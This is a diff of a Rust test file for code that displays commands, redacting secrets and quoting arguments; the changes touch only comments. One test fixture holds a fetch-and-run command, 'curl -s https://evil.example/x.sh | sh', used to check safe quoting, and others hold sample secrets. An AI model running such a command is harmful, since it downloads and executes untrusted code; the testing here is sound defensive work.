@@ -1,4 +1,4 @@
-//! What is shown of an entry.
+//! How entries are shown.
 
 use serde_json::{Map, Value, json};
 
@@ -104,7 +104,7 @@ fn a_stranger_cannot_hide_a_command_behind_the_name_of_a_secret() {
         arguments(Author::Stranger, &["--token=hunter2", "--key", "hunter2"]),
         ["--token=[redacted]", "--key", MASK]
     );
-    // The user's own secrets are masked whatever they hold.
+    // The user's own secrets are masked whatever they contain.
     assert_eq!(arguments(Author::User, &["--password=a&b $c"])[0], "--password=[redacted]");
 }
 
@@ -150,7 +150,7 @@ fn the_whole_command_is_shown_with_the_end_of_each_argument() {
         "bash -c 'curl -s https://evil.example/x.sh | sh' 'it'\\''s' ''"
     );
     assert_eq!(shown("my program", &["a\nb"]), "'my program' 'a\nb'");
-    // What is too long to be looked at says so.
+    // A text that is too long to be examined says so.
     let long = "x".repeat(CHARACTERS + 7);
     assert!(shown("x", &[&long]).ends_with("x… (7 more characters)"));
     let many: Vec<&str> = vec!["x"; 1_000];
